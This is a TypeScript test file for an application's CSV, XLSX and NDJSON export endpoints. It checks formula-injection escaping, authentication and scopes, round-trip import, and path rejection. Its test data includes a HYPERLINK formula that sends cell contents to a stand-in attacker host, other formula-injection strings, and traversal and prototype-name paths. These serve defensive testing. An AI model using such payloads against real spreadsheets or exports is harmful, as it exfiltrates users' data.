import { parseCsv } from "hucre/csv";
import { readXlsx } from "hucre/xlsx";
import { afterAll, beforeAll, expect, test } from "vitest";
import { testExchange } from "../../../test/exchanged.ts";
import { allLists, listColumns } from "./lists.ts";
import { neutral } from "./neutral.ts";

let it: Awaited<ReturnType<typeof testExchange>>;
beforeAll(async () => {
  it = await testExchange();
  await it.server("crm");
});
afterAll(() => it[Symbol.asyncDispose]());

const agent = (name: string, purpose: string) =>
  it.verbs["agents.register"](it.operator, {
    name,
    purpose,
    environment: "prod",
    tier: "low",
    owner: "ann@example.com",
  });

test("what would become a formula in a spreadsheet begins with an apostrophe, and nothing else does", () => {
  for (const bad of [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "\u{feff}=1",
    "|calc",
    "\nx",
  ])
    expect(neutral(bad)).toBe(`'${bad}`);
  for (const good of ["a=1", "1-2", "x@example.com", "'=1", "", "(1)"])
    expect(neutral(good)).toBe(good);
  expect([neutral(-1), neutral(null)]).toEqual([-1, null]);
});

test("a hostile purpose is text in every table, and whole in JSON", async () => {
  const bad = '=HYPERLINK("http://evil.example/?"&A1,"look")';
  await agent("hostile", bad);
  const csv = await (await it.get("/export/agents.csv")).text();
  const row = parseCsv(csv).find(([name]) => name === "hostile");
  expect(row?.[1]).toBe(`'${bad}`);
  const sheet = await readXlsx(
    new Uint8Array(await (await it.get("/export/agents.xlsx")).arrayBuffer()),
  );
  const cells = sheet.sheets[0]?.rows.find(([name]) => name === "hostile");
  expect(cells?.[1]).toBe(`'${bad}`);
  expect(sheet.sheets[0]?.cells?.size ?? 0).toBe(0);
  const lines = (await (await it.get("/export/agents.ndjson")).text()).trim().split("\n");
  expect(lines.map((line) => (JSON.parse(line) as { purpose: string }).purpose)).toContain(bad);
});

test.each(["agents", "servers", "people", "findings", "discovered"])(
  "%s can be had as CSV and as a workbook, each with its heads",
  async (kind) => {
    const csv = await it.get(`/export/${kind}.csv`);
    expect(csv.headers.get("content-disposition")).toBe(`attachment; filename="reeve-${kind}.csv"`);
    const [heads] = parseCsv(await csv.text());
    expect(heads?.length).toBeGreaterThan(5);
    const xlsx = await readXlsx(
      new Uint8Array(await (await it.get(`/export/${kind}.xlsx`)).arrayBuffer()),
    );
    expect(xlsx.sheets[0]?.rows[0]).toEqual(heads);
  },
);

test("agents that went out come in again unchanged", async () => {
  await agent("round trip", '-5 degrees; "quoted", and\nlines');
  const file = new Uint8Array(await (await it.get("/export/agents.csv")).arrayBuffer());
  const { id } = await it.read(file);
  const { counts } = await it.preview(id);
  expect(counts).toMatchObject({ create: 0, update: 0, error: 0 });
  expect(counts.unchanged).toBeGreaterThanOrEqual(2);
});

test("everything is one moment, and a last line tells that it is whole", async () => {
  const text = await (await it.get("/export/everything.ndjson")).text();
  const lines = text
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(lines[0]).toMatchObject({ type: "export", format: "reeve-export/1" });
  const counts = (lines.at(-1) as { counts: Record<string, number> }).counts;
  for (const [kind, count] of Object.entries(counts))
    expect(lines.filter(({ type }) => type === kind)).toHaveLength(count);
  expect(counts).toMatchObject({ servers: 1 });
});

test("rows that were wrong come back as a sheet, with what is wrong before their own cells", async () => {
  const { id } = await it.read("name,tier\n=bad,low\n");
  await it.preview(id);
  const sheet = parseCsv(await (await it.get(`/export/imports/${id}/problems.csv`)).text());
  expect(sheet[0]).toEqual(["row", "problem", "name", "tier"]);
  expect(sheet[1]?.slice(2)).toEqual(["'=bad", "low"]);
  expect(sheet[1]?.[1]).toMatch(/^name: /);
});

test("nobody, and a token without the scope, are refused; a session's cookie is enough", async () => {
  expect((await it.get("/export/agents.csv", null)).status).toBe(401);
  expect((await it.get("/export/people.csv", "agents")).status).toBe(403);
  expect((await it.get("/export/everything.ndjson", "agents")).status).toBe(403);
  expect((await it.get("/export/agents.csv", "agents")).status).toBe(200);
  expect((await it.get("/export/agents.csv", null, { cookie: "session=1" })).status).toBe(200);
  for (const none of ["agents.pdf", "nothing.csv", "../agents.csv", "imports/x/problems.csv"])
    expect((await it.get(`/export/${none}`)).status).toBe(404);
});

test("an export that nobody reads to its end gives its connection back", async () => {
  for (let i = 0; i < 20; i++) {
    const response = await it.get("/export/everything.ndjson");
    await response.body?.cancel();
  }
  await expect
    .poll(async () => (await it.get("/export/agents.csv")).status, { timeout: 20_000 })
    .toBe(200);
});

test("every list can be had as a table: each has columns, and each column a name of its own", () => {
  expect(allLists().length).toBeGreaterThan(30);
  for (const name of allLists()) {
    const heads = listColumns(name).map(({ head }) => head);
    expect(heads.length, name).toBeGreaterThan(1);
    expect(new Set(heads).size, name).toBe(heads.length);
  }
});

test("a list is had whole, narrowed as it was asked, each text so that no spreadsheet takes it for a formula", async () => {
  for (let i = 0; i < 3; i++) await agent(`listed ${i}`, "@SUM(A1)");
  await agent("other", "reads");
  const asked = "/export/agents.list.csv?q=listed";
  const [heads, ...rows] = parseCsv(await (await it.get(asked)).text());
  expect(heads?.slice(0, 4)).toEqual(["id", "name", "purpose", "environment"]);
  expect(heads).toContain("owner name");
  expect(rows.map(([, name, purpose]) => [name, purpose])).toEqual(
    [0, 1, 2].map((i) => [`listed ${i}`, "'@SUM(A1)"]),
  );
  const lines = (await (await it.get(asked.replace(".csv", ".ndjson"))).text()).trim().split("\n");
  expect(lines.map((line) => (JSON.parse(line) as { purpose: string }).purpose)).toEqual([
    "@SUM(A1)",
    "@SUM(A1)",
    "@SUM(A1)",
  ]);
  expect((await it.get(`${asked}&limit=1`)).status).toBe(422);
  expect((await it.get(`${asked}&nonsense=1`)).status).toBe(422);
  expect((await it.get("/export/imports.list.csv", "agents")).status).toBe(403);
  expect((await it.get("/export/agents.register.csv")).status).toBe(404);
  expect((await it.get("/export/__proto__.csv")).status).toBe(404);
});
